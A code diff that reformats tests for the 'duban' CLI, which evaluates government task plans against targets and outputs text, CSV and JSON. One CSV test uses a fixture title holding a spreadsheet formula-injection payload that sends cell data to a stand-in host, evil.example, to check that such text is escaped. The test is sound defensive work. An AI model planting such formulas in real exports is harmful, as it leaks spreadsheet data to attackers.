@@ -32,11 +32,24 @@ describe('duban evaluate', () => {
       label: '有序推进',
       rule: '有序推进',
       facts: {
-        kind: 'cumulative', cancelled: false, hasData: true,
-        value: '55', target: '200', progress: '0.275', expected: '0.25',
-        paceGap: '0.025', paceRatio: '1.1', met: false, onPace: true,
-        margin: null, overdue: false, daysToDeadline: 275,
-        overdueMilestones: 0, dataAgeDays: 0, dataCoversPeriod: false, flags: [],
+        kind: 'cumulative',
+        cancelled: false,
+        hasData: true,
+        value: '55',
+        target: '200',
+        progress: '0.275',
+        expected: '0.25',
+        paceGap: '0.025',
+        paceRatio: '1.1',
+        met: false,
+        onPace: true,
+        margin: null,
+        overdue: false,
+        daysToDeadline: 275,
+        overdueMilestones: 0,
+        dataAgeDays: 0,
+        dataCoversPeriod: false,
+        flags: [],
       },
       explanation: '林业产值完成55亿元，为目标的27.5%，序时进度25%，超前2.5个百分点',
     });
@@ -56,10 +69,23 @@ describe('duban evaluate', () => {
     const dir = tmp();
     const plan = join(dir, 'units.plan.json');
     const tasks = [
-      { id: 'R1', title: '出口增长10%', target: { kind: 'rate', measure: '出口增长', unit: '%', value: '10', bound: 'atLeast' }, observations: [{ asOf: '2018-06-30', value: '9.5' }] },
-      { id: 'R2', title: '基金公司达到200家', target: { kind: 'rate', measure: '基金公司', unit: '家', value: '200', bound: 'atLeast' }, observations: [{ asOf: '2018-06-30', value: '169' }] },
+      {
+        id: 'R1',
+        title: '出口增长10%',
+        target: { kind: 'rate', measure: '出口增长', unit: '%', value: '10', bound: 'atLeast' },
+        observations: [{ asOf: '2018-06-30', value: '9.5' }],
+      },
+      {
+        id: 'R2',
+        title: '基金公司达到200家',
+        target: { kind: 'rate', measure: '基金公司', unit: '家', value: '200', bound: 'atLeast' },
+        observations: [{ asOf: '2018-06-30', value: '169' }],
+      },
     ];
-    writeFileSync(plan, JSON.stringify({ formatVersion: 1, id: 'u', title: 'u', period: { start: '2018-01-01', end: '2018-12-31' }, asOf: '2018-06-30', tasks }));
+    writeFileSync(
+      plan,
+      JSON.stringify({ formatVersion: 1, id: 'u', title: 'u', period: { start: '2018-01-01', end: '2018-12-31' }, asOf: '2018-06-30', tasks }),
+    );
     const { stdout } = await run(['evaluate', plan]);
     expect(stdout).toMatch(/R1 .*-0\.5个百分点/);
     expect(stdout).toMatch(/R2 .*-31家/);
@@ -71,12 +97,20 @@ describe('duban evaluate', () => {
     expect(stdout).toContain('| T09 |');
   });
 
-  it('writes --format csv with a leading \' before text that would run as a formula, numbers as they are', async () => {
+  it("writes --format csv with a leading ' before text that would run as a formula, numbers as they are", async () => {
     const dir = tmp();
     const plan = join(dir, 'formula.plan.json');
     const title = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
-    const task = { id: 'T1', title, target: { kind: 'rate', measure: '增速', unit: '%', value: '-0.5', bound: 'atLeast' }, observations: [{ asOf: '2018-06-30', value: '-0.8' }] };
-    writeFileSync(plan, JSON.stringify({ formatVersion: 1, id: 'f', title: 'f', period: { start: '2018-01-01', end: '2018-12-31' }, asOf: '2018-06-30', tasks: [task] }));
+    const task = {
+      id: 'T1',
+      title,
+      target: { kind: 'rate', measure: '增速', unit: '%', value: '-0.5', bound: 'atLeast' },
+      observations: [{ asOf: '2018-06-30', value: '-0.8' }],
+    };
+    writeFileSync(
+      plan,
+      JSON.stringify({ formatVersion: 1, id: 'f', title: 'f', period: { start: '2018-01-01', end: '2018-12-31' }, asOf: '2018-06-30', tasks: [task] }),
+    );
     const { status, stdout } = await run(['evaluate', plan, '--format', 'csv']);
     expect(status).toBe(0);
     const row = stdout.split('\r\n')[1]!;
@@ -130,7 +164,17 @@ describe('duban evaluate', () => {
     const dir = tmp();
     const plan = join(dir, 'bad.json');
     const out = join(dir, 'out.json');
-    writeFileSync(plan, JSON.stringify({ formatVersion: 1, id: 'x', title: 'x', period: { start: '2018-01-01', end: '2018-12-31' }, deadine: 1, tasks: [{ id: 'a', title: 'a', target: { kind: 'cumulative', measure: 'm', unit: '亿元', value: 'NaN' } }] }));
+    writeFileSync(
+      plan,
+      JSON.stringify({
+        formatVersion: 1,
+        id: 'x',
+        title: 'x',
+        period: { start: '2018-01-01', end: '2018-12-31' },
+        deadine: 1,
+        tasks: [{ id: 'a', title: 'a', target: { kind: 'cumulative', measure: 'm', unit: '亿元', value: 'NaN' } }],
+      }),
+    );
     const { status, stdout, stderr } = await run(['evaluate', plan, '--format', 'json', '--out', out]);
     expect(status).toBe(2);
     expect(stdout).toBe('');
@@ -147,7 +191,16 @@ describe('duban evaluate', () => {
     const plan = join(dir, 'bad.json');
     const rules = join(dir, 'rules.json');
     writeFileSync(plan, '{ "formatVersion": 1, ');
-    writeFileSync(rules, JSON.stringify({ formatVersion: 1, id: 'r', title: 'r', statuses: [{ code: 'a', label: 'A' }], rules: [{ name: 'x', priority: 0, conditions: { all: [{ fact: 'mett', operator: 'equal', value: true }] }, event: { type: 'b' } }] }));
+    writeFileSync(
+      rules,
+      JSON.stringify({
+        formatVersion: 1,
+        id: 'r',
+        title: 'r',
+        statuses: [{ code: 'a', label: 'A' }],
+        rules: [{ name: 'x', priority: 0, conditions: { all: [{ fact: 'mett', operator: 'equal', value: true }] }, event: { type: 'b' } }],
+      }),
+    );
     const { status, stderr } = await run(['evaluate', plan, '--rules', rules]);
     expect(status).toBe(2);
     expect(stderr).toContain(`${plan}: $: 不是有效的 JSON`);
